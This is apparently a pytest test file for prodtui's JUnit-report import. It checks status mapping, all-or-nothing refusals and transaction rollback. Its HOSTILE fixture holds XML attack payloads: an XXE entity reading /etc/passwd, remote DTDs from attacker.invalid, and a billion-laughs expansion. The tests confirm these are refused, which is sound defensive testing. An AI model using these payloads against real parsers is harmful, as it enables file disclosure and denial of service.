"""JUnit reports into a campaign: a real pytest run, the mapping, and hostile files."""

from __future__ import annotations

import argparse
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from prodtui.cli.commands.imports import run_import_junit
from prodtui.domain.errors import ProdtuiError
from prodtui.domain.recette import Campaign, CampaignState, ExecutionStatus
from prodtui.domain.recette import TestCase as Case
from prodtui.exchange import junit
from prodtui.exchange.junit import parse_junit, read_junit
from prodtui.i18n import error_message, set_language
from prodtui.store import Workspace
from prodtui.store.recette import JUnitImportRefused, Recette, recette

PASS, FAIL, BLOCKED = ExecutionStatus.PASS, ExecutionStatus.FAIL, ExecutionStatus.BLOCKED
NOT_RUN = ExecutionStatus.NOT_RUN

TINY_SUITE = """
import pytest


def test_passes():
    assert True


def test_fails():
    assert 1 == 2, "le total est faux"


@pytest.fixture
def broken():
    raise RuntimeError("base de recette indisponible")


def test_errors(broken):
    pass


@pytest.mark.skip(reason="pas encore prêt")
def test_skipped():
    pass


@pytest.mark.parametrize("login", ["alice"], ids=["TC-1"])
def test_login(login):
    assert login
"""


@pytest.fixture(scope="module")
def pytest_report(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A report written by a real `pytest --junitxml` run of a tiny generated suite."""
    folder = tmp_path_factory.mktemp("suite")
    (folder / "pytest.ini").write_text("[pytest]\n", encoding="utf-8")  # its own rootdir
    (folder / "test_tiny.py").write_text(TINY_SUITE, encoding="utf-8")
    report = folder / "report.xml"
    env = os.environ | {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
    completed = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", f"--junitxml={report}"],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert completed.returncode == 1, completed.stdout + completed.stderr  # tests failed
    assert "1 failed, 2 passed, 1 skipped, 1 error" in completed.stdout
    return report.read_bytes()


@pytest.fixture
def rc(workspace: Workspace) -> Recette:
    return recette(workspace)


@pytest.fixture
def campaign(rc: Recette) -> Campaign:
    rc.test_cases.add(Case(title="Connexion de l'aidante", steps="1. Se connecter"))
    return rc.campaigns.add(Campaign(name="Recette v1.5", release="1.5.0"))


def args(path: Path, campaign: str = "Recette v1.5", **more: object) -> argparse.Namespace:
    return argparse.Namespace(file=path, campaign=campaign, **more)


def rows(ws: Workspace) -> dict[str, int]:
    tables = ("executions", "test_cases", "campaigns", "audit_log", "command_runs")
    counts = {t: ws.conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in tables}
    counts["state"] = ws.conn.execute("SELECT group_concat(state) FROM campaigns").fetchone()[0]
    return counts


def write(tmp_path: Path, data: bytes | str, name: str = "report.xml") -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


# -- a real report ------------------------------------------------------------------------


def test_a_real_pytest_report_is_imported_with_its_mapping(
    tmp_path: Path,
    workspace: Workspace,
    rc: Recette,
    campaign: Campaign,
    pytest_report: bytes,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = write(tmp_path, pytest_report)
    assert run_import_junit(args(path), workspace) == 0
    out, err = capsys.readouterr()
    assert err == "" and len(out.strip().splitlines()) == 1
    assert "5 résultats importés dans «\u202fRecette v1.5\u202f», passe 1 — " in out
    assert "réussi\u202f: 2, en échec\u202f: 1, bloqué\u202f: 1, non exécuté\u202f: 1" in out
    assert "1 cas désigné par sa clé, 4 cas automatisés dont 4 créés" in out

    latest = rc.executions.latest_per_case(campaign)
    by_title = {e.case.title: e for e in latest.values()}
    assert set(by_title) == {
        "Connexion de l'aidante",
        "test_passes",
        "test_fails",
        "test_errors",
        "test_skipped",
    }
    manual = by_title["Connexion de l'aidante"]
    assert manual.case_key == "TC-1" and manual.status is PASS and manual.automated
    assert by_title["test_passes"].status is PASS
    assert by_title["test_fails"].status is FAIL
    assert "le total est faux" in by_title["test_fails"].comment
    assert by_title["test_errors"].status is BLOCKED
    assert "base de recette indisponible" in by_title["test_errors"].comment
    assert by_title["test_skipped"].status is NOT_RUN
    assert by_title["test_skipped"].comment == "pas encore prêt"
    # Nobody sat at these tests: the automated run ran them, whoever imported its report.
    assert all(e.duration_s is not None and e.tester == "automatique" for e in latest.values())
    # The failure's message, then its body: the line pytest pointed at and the error.
    assert by_title["test_fails"].comment.startswith(
        "AssertionError: le total est faux\nassert 1 == 2\n\n"
    )
    assert '>       assert 1 == 2, "le total est faux"' in by_title["test_fails"].comment

    created = rc.test_cases.by_automation_key("test_tiny::test_fails")
    assert created is not None and created.automated and created.key == "TC-3"
    assert "test_tiny::test_fails" in created.steps
    assert rc.campaigns.get(campaign.id or 0).state is CampaignState.IN_PROGRESS


def test_a_second_import_reuses_the_automated_cases(
    tmp_path: Path, workspace: Workspace, rc: Recette, campaign: Campaign, pytest_report: bytes
) -> None:
    path = write(tmp_path, pytest_report)
    report = read_junit(path)
    first = rc.executions.import_automated(campaign, report.results)
    cases_after_first = rc.test_cases.count()
    second = rc.executions.import_automated(campaign, report.results)
    assert len(first.created) == 4 and first.reused == []
    assert second.created == [] and sorted(second.reused) == sorted(first.created)
    assert rc.test_cases.count() == cases_after_first == 5
    assert rc.executions.count() == 10
    again = rc.campaigns.add(Campaign(name="Recette v1.6"))
    third = rc.executions.import_automated(again, report.results)
    assert third.created == [] and rc.test_cases.count() == 5


def test_a_key_in_a_property_or_classname_names_the_case(
    tmp_path: Path, rc: Recette, campaign: Campaign
) -> None:
    for title in ("Deux", "Trois"):
        rc.test_cases.add(Case(title=title))
    report = parse_junit(
        textwrap.dedent(
            """\
            <?xml version="1.0" encoding="UTF-8"?>
            <testsuites>
              <testsuite name="acceptance">
                <testsuite name="nested">
                  <testcase classname="acceptance.depot" name="test_depot_pdf" time="1.5">
                    <properties>
                      <property name="test_key" value="TC-2"/>
                      <property name="url" value="https://example.invalid/TC-1"/>
                    </properties>
                  </testcase>
                </testsuite>
                <testcase classname="acceptance.test_TC_3_refus" name="test_refus" time="n/a">
                  <failure type="AssertionError">Traceback
            E   AssertionError: motif absent</failure>
                </testcase>
                <testcase classname="acceptance" name="test_other_TC-3" time="0.5"/>
              </testsuite>
            </testsuites>
            """
        ).encode(),
        "acceptance.xml",
    )
    assert [r.key for r in report.results] == ["TC-2", "TC-3", "TC-3"]
    # No message: the error a traceback ends with comes first, then the rest of it.
    assert report.results[1].comment == "E   AssertionError: motif absent\n\nTraceback"
    assert report.results[1].duration_s is None
    outcome = rc.executions.import_automated(campaign, report.results)
    assert outcome.linked == ["TC-2", "TC-3"] and outcome.created == []
    latest = {e.case_key: e for e in rc.executions.latest_per_case(campaign).values()}
    assert latest["TC-2"].status is PASS and latest["TC-2"].duration_s == 1.5
    # Two tests name TC-3: one failure fails the case, the comments are kept together.
    assert latest["TC-3"].status is FAIL and latest["TC-3"].duration_s == 0.5
    assert latest["TC-3"].comment == "test_refus: E   AssertionError: motif absent\n\nTraceback"


def test_a_failure_without_any_message_still_gets_a_comment(
    rc: Recette, campaign: Campaign
) -> None:
    report = parse_junit(b'<testsuite><testcase name="t"><error/></testcase></testsuite>')
    rc.executions.import_automated(campaign, report.results)
    (execution,) = rc.executions.log()
    assert execution.status is BLOCKED
    assert execution.comment == "(aucun message dans le rapport JUnit)"


# -- refusals that write nothing ----------------------------------------------------------


def test_an_unknown_key_refuses_the_whole_import_unless_keeping_the_valid_part(
    tmp_path: Path,
    workspace: Workspace,
    rc: Recette,
    campaign: Campaign,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = write(
        tmp_path,
        '<testsuite><testcase classname="a" name="new_test"/>'
        '<testcase classname="a" name="test_TC-99"/></testsuite>',
    )
    before = rows(workspace)
    assert run_import_junit(args(path), workspace) == 2
    _, err = capsys.readouterr()
    assert "report.xml: testcase 2 (a::test_TC-99): TC-99 n'existe pas" in err
    assert "Import refusé\u202f: 1 résultat en erreur, rien n'a été écrit." in err
    assert rows(workspace) == before, "not even the automated case of the valid test"

    with pytest.raises(JUnitImportRefused):
        rc.executions.import_automated(campaign, read_junit(path).results)
    assert run_import_junit(args(path, keep_valid=True), workspace) == 0
    out, err = capsys.readouterr()
    assert "TC-99" in err and "1 résultat importé" in out
    assert rc.executions.count() == 1


def test_an_unknown_campaign_is_refused_with_status_2(
    tmp_path: Path,
    workspace: Workspace,
    campaign: Campaign,
    pytest_report: bytes,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = write(tmp_path, pytest_report)
    before = rows(workspace)
    assert run_import_junit(args(path, campaign="Recette v9"), workspace) == 2
    assert capsys.readouterr().err == (
        "prodtui: Aucune campagne ne s'appelle «\u202fRecette v9\u202f». Les plus proches\u202f: "
        "«\u202fRecette v1.5\u202f». Pour créer cette campagne, ajoutez --create.\n"
    )
    set_language("en")
    assert run_import_junit(args(path, campaign="Recette v9"), workspace) == 2
    assert capsys.readouterr().err == (
        "prodtui: No campaign is named “Recette v9”. The closest: “Recette v1.5”. "
        "To create this campaign, add --create.\n"
    )
    assert rows(workspace) == before


def test_a_finished_campaign_takes_no_import(
    tmp_path: Path,
    workspace: Workspace,
    rc: Recette,
    campaign: Campaign,
    pytest_report: bytes,
    capsys: pytest.CaptureFixture[str],
) -> None:
    rc.campaigns.set_state(campaign, CampaignState.FINISHED)
    before = rows(workspace)
    assert run_import_junit(args(write(tmp_path, pytest_report)), workspace) == 2
    assert "lecture seule" in capsys.readouterr().err
    assert rows(workspace) == before


def test_an_error_in_the_middle_leaves_nothing_written(
    tmp_path: Path, workspace: Workspace, rc: Recette, campaign: Campaign, pytest_report: bytes
) -> None:
    results = read_junit(write(tmp_path, pytest_report)).results
    before = rows(workspace)
    # A real failure of the file half-way: the fourth result cannot be inserted.
    workspace.conn.execute(
        "CREATE TEMP TRIGGER fail_late BEFORE INSERT ON executions"
        " WHEN (SELECT count(*) FROM executions) >= 3"
        " BEGIN SELECT RAISE(ABORT, 'disk full (simulated by a trigger)'); END"
    )
    assert run_import_junit(args(write(tmp_path, pytest_report)), workspace) == 1
    with pytest.raises(Exception, match="disk full"):
        rc.executions.import_automated(campaign, results)
    assert rows(workspace) == before, "cases created and the campaign's start rolled back too"
    assert rc.campaigns.get(campaign.id or 0).state is CampaignState.PLANNED


HOSTILE = {
    "external entity": (
        '<?xml version="1.0"?>\n<!DOCTYPE testsuite [\n'
        '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        '<testsuite><testcase classname="a" name="&xxe;"/></testsuite>\n',
        "report.xml, ligne 3\u202f: le rapport fait référence à une ressource externe "
        "(file:///etc/passwd)\u202f; refusé, elle n'a pas été lue.",
    ),
    "external parameter entity": (
        '<?xml version="1.0"?>\n<!DOCTYPE testsuite [\n'
        '  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n  %remote;\n]>\n'
        "<testsuite/>\n",
        "ressource externe (http://attacker.invalid/evil.dtd)",
    ),
    "external DTD": (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd">\n<testsuite/>\n',
        "ressource externe (http://attacker.invalid/junit.dtd)",
    ),
    "billion laughs": (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  <!ENTITY lol "lol">\n'
        + "".join(
            f'  <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">\n'
            for n in range(1, 10)
        )
        + ']>\n<testsuite><testcase classname="a" name="&lol9;"/></testsuite>\n',
        "report.xml, ligne 3\u202f: le rapport déclare des entités XML («\u202flol\u202f»), "
        "qui peuvent saturer la mémoire\u202f; refusé.",
    ),
    "DTD": (
        '<?xml version="1.0"?>\n<!DOCTYPE testsuite [\n  <!ELEMENT testsuite ANY>\n]>\n'
        '<testsuite><testcase classname="a" name="b"/></testsuite>\n',
        "report.xml, ligne 4\u202f: le rapport contient une déclaration de type de document (DTD)",
    ),
    "not XML": ("PK\x03\x04 this is a zip, not a report", "report.xml n'est pas un fichier XML."),
    "JSON": ('{"tests": 3, "failures": 0}', "report.xml n'est pas un fichier XML."),
    "empty": ("", "le fichier s'arrête avant la fin du XML (tronqué ou vide)"),
    "HTML": (
        "<html><body>502 Bad Gateway</body></html>",
        "report.xml n'est pas un rapport JUnit (élément racine <html>",
    ),
    "no test": ('<testsuites name="pytest"/>', "report.xml ne contient aucun cas de test."),
    "malformed": (
        '<testsuites>\n  <testsuite name="a" name="b"/>\n</testsuites>',
        "report.xml, ligne 2, colonne 23\u202f: XML mal formé (duplicate attribute).",
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_or_broken_files_are_refused_with_one_clear_line(
    tmp_path: Path,
    workspace: Workspace,
    campaign: Campaign,
    capsys: pytest.CaptureFixture[str],
    kind: str,
) -> None:
    data, message = HOSTILE[kind]
    before = rows(workspace)
    assert run_import_junit(args(write(tmp_path, data)), workspace) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and err.startswith("prodtui: ")
    assert message in err
    assert "passwd" not in err.replace("file:///etc/passwd", ""), "nothing of the file leaks"
    assert rows(workspace) == before


def test_a_truncated_real_report_is_refused(
    tmp_path: Path,
    workspace: Workspace,
    campaign: Campaign,
    pytest_report: bytes,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = rows(workspace)
    for cut in (len(pytest_report) // 2, len(pytest_report) - 15):
        path = write(tmp_path, pytest_report[:cut])
        assert run_import_junit(args(path), workspace) == 2
        err = capsys.readouterr().err
        assert "le fichier s'arrête avant la fin du XML (tronqué ou vide)." in err
        assert "report.xml, ligne " in err and ", colonne " in err
    assert rows(workspace) == before


def test_a_file_over_the_limit_is_refused_before_it_is_read(
    tmp_path: Path, workspace: Workspace, campaign: Campaign, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as handle:  # sparse: a few bytes on disk, 50 MB and one by size
        handle.truncate(junit.MAX_BYTES + 1)
    before = rows(workspace)
    assert run_import_junit(args(path), workspace) == 2
    err = capsys.readouterr().err
    assert "huge.xml pèse 50,0 Mo\u202f: un rapport JUnit de plus de 50 Mo est refusé." in err
    assert rows(workspace) == before


def test_the_limit_holds_on_real_content_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pytest_report: bytes
) -> None:
    monkeypatch.setattr(junit, "MAX_BYTES", len(pytest_report) - 1)
    with pytest.raises(ProdtuiError) as caught:
        read_junit(write(tmp_path, pytest_report))
    assert caught.value.key == "junit.too_big"
    monkeypatch.setattr(junit, "MAX_BYTES", len(pytest_report))
    assert len(read_junit(write(tmp_path, pytest_report)).results) == 5


def test_a_folder_or_a_missing_file_is_refused(
    tmp_path: Path, workspace: Workspace, campaign: Campaign, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_import_junit(args(tmp_path), workspace) == 2
    assert "n'est pas un fichier" in capsys.readouterr().err
    assert run_import_junit(args(tmp_path / "absent.xml"), workspace) == 2
    assert "Impossible de lire" in capsys.readouterr().err


def test_messages_follow_the_language(tmp_path: Path) -> None:
    set_language("en")
    with pytest.raises(ProdtuiError) as caught:
        read_junit(write(tmp_path, HOSTILE["billion laughs"][0]))
    assert error_message(caught.value) == (
        f"{tmp_path / 'report.xml'}, line 3: the report declares XML entities (“lol”), "
        "which can exhaust memory; refused."
    )
